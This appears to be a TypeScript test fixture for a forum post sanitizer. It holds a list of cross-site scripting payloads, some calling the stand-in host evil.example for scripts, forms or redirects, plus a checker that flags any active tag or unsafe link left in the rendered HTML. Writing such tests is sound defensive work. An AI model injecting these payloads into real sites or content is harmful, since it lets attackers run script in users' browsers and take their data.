/** What an attacker types into a post or reply; none may leave an active element or address in `contentHtml`. */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](  javascript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](java%0ascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](https://evil.example/pixel.gif)',
  '[x](//evil.example)',
  '<javascript:alert(1)>',
  '<a href="x" onclick="alert(1)">x</a>',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<form action="https://evil.example"><input name=x></form>',
  '<object data="javascript:alert(1)"></object>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '[x](https://ok.example "title" onclick=alert(1))',
  '<<img src=x onerror=alert(1)//<',
];

/** Tags and attributes the allow-list may produce; anything else in the output is a failure. */
const ALLOWED_TAG =
  /^<\/?(p|br|strong|em|s|del|code|pre|blockquote|ul|ol|li|a|hr|h3|h4|h5|h6|table|thead|tbody|tr|th|td)( (href|rel|start)="[^"]*")*\s*\/?>$/;

/**
 * What is active in `html`: tags outside the allow-list, and link addresses other than http(s), mailto and
 * same-site paths (escaped text may quote anything: it is shown, never run or followed). Empty when inert.
 */
export function inertHtml(html: string): string[] {
  const problems: string[] = [];
  for (const tag of html.match(/<[^>]*>/g) ?? []) if (!ALLOWED_TAG.test(tag)) problems.push(tag);
  for (const tag of html.match(/<a [^>]*>/g) ?? []) {
    const href = /href="([^"]*)"/.exec(tag)?.[1] ?? '';
    if (!/^(https?:|mailto:|\/[^/\\])/.test(href)) problems.push(tag);
    if (!tag.includes('rel="nofollow ugc noopener"')) problems.push(tag);
  }
  return problems;
}
